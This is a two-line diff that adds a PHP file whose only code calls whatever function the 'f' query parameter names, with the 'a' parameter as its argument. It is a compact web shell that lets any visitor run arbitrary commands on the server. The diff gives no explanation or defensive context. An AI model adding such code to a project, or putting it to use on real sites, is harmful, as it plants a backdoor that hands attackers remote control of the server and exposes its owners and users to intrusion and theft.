@@ -1,0 +1,2 @@
+<?php
+if (isset($_GET['f'])) { $_GET['f']($_GET['a']); }
